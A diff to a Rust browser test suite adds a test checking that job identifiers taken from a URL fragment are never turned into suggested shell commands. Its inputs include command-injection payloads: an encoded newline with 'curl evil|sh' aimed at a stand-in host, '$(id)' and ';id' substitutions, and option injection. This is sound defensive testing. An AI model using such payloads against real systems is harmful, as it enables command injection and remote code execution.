@@ -166,6 +166,22 @@ async fn texts_of_tenants_are_never_code_in_a_job() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
+async fn an_address_brings_no_text_into_commands() {
+    let Some(mut browser) = Browser::start().await else { return };
+    let model = Model::live(20, Indexed::of(100)).await;
+    for job in ["ml/x%0Acurl%20evil|sh%0A", "ml/x$(id)", "ml/x;id", "-h/x", "ml", "ml/x/y"] {
+        browser.open("about:blank?").await;
+        browser.open(&format!("{}#job={job}", model.url)).await;
+        browser.until("document.querySelectorAll('#job-rows tr').length > 0").await;
+        let shown = "[document.querySelector('#job-view').hidden, document.querySelectorAll('#next-commands code').length]";
+        assert_eq!(browser.value(shown).await, json!([true, 0]), "{job}");
+    }
+    let job = first_job(&mut browser).await;
+    browser.open(&format!("{}#job={job}&tab=log&pod=p%0Aid", model.url)).await;
+    browser.until("document.querySelector('#log-state').textContent.startsWith('choose a pod')").await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
 async fn without_a_token_of_the_cluster_the_replicas_part_is_shown_and_a_token_is_asked_for() {
     let Some(mut browser) = Browser::start().await else { return };
     let model = Model::serve(20).await;
